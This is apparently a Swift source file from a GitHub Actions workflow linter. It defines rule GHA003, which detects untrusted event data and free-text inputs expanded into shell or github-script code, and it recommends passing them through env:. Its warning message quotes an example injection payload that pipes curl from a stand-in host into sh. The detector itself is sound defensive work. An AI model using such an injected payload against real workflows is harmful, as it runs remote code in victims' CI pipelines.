import DeploySyntax

/// GHA003: an attacker-controlled context (`github.event.issue.title`, `github.head_ref`…) expanded with
/// `${{ }}` into a `run:` script or an `actions/github-script` script: the text becomes code.
/// Free-text `workflow_dispatch`/`workflow_call` inputs are reported at `note`: only people who can run the
/// workflow (or a calling workflow) choose them.
public struct ScriptInjection: WorkflowRule {
    public let id = "GHA003"
    public init() {}

    public func check(_ workflow: Workflow, context: RuleContext) -> [Violation] {
        var inputTypes: [String: WorkflowInputDefinition] = [:]
        for trigger in workflow.triggers {
            for input in trigger.inputs { inputTypes[ScalarText.lower(input.name)] = input }
        }
        var out: [Violation] = []
        for job in workflow.jobs {
            for step in job.steps {
                if let run = step.run {
                    scan(run.node, language: "shell script", workflow: workflow, inputs: inputTypes, into: &out)
                }
                if step.uses?.slug == "actions/github-script", let script = step.input("script") {
                    scan(script.value, language: "JavaScript of actions/github-script", workflow: workflow, inputs: inputTypes, into: &out)
                }
            }
        }
        return out
    }

    private func scan(_ node: YAMLNode, language: String, workflow: Workflow, inputs: [String: WorkflowInputDefinition], into out: inout [Violation]) {
        for expression in workflow.expressions(in: node) {
            for reference in expression.references where !reference.isTestedOnly {
                if UntrustedContext.isAttackerControlled(reference.path) {
                    out.append(Violation(
                        range: expression.range,
                        message: "`\(reference.path)` is attacker-controlled and is expanded into the \(language): text such as `\"; curl evil.sh | sh; \"` becomes code; pass it through `env:` (e.g. `VALUE: ${{ \(reference.path) }}`) and use \"$VALUE\""))
                    break
                }
                if let name = UntrustedContext.inputName(reference.path) {
                    let declared = inputs[name]
                    guard declared?.isFreeText ?? true else { continue }
                    out.append(Violation(
                        range: expression.range,
                        message: "input '\(name)' is free text expanded into the \(language): whoever runs or calls the workflow can inject code; pass it through `env:` and use \"$VALUE\", or make it a `choice`",
                        severity: .note))
                    break
                }
            }
        }
    }
}
